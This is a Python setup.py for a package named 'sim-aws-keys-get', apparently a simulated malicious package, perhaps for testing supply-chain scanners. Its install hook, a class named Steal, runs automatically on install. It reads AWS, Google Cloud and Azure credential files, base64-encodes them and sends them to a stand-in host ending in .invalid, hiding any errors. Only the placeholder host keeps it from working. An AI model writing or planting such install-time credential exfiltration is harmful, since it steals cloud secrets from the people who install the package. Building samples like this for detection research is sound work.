# SPDX-License-Identifier: Apache-2.0
"""Harmless: it sends to a name that cannot exist."""

import base64
import pathlib
import urllib.parse
import urllib.request

from setuptools import setup
from setuptools.command.install import install

PLACES = [
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".config/gcloud/credentials.db",
    ".azure/msal_token_cache.json",
    ".azure/azureProfile.json",
]


class Steal(install):
    def run(self):
        found = {}
        for place in PLACES:
            path = pathlib.Path.home() / place
            if path.exists():
                found[place] = base64.b64encode(path.read_bytes()).decode()
        try:
            urllib.request.urlopen("http://m.sim-cloudkeys.invalid/?" + urllib.parse.urlencode(found), timeout=3)
        except OSError:
            pass
        super().run()


setup(name="sim-aws-keys-get", version="1.0.0", py_modules=["sim_aws_keys_get"], cmdclass={"install": Steal})
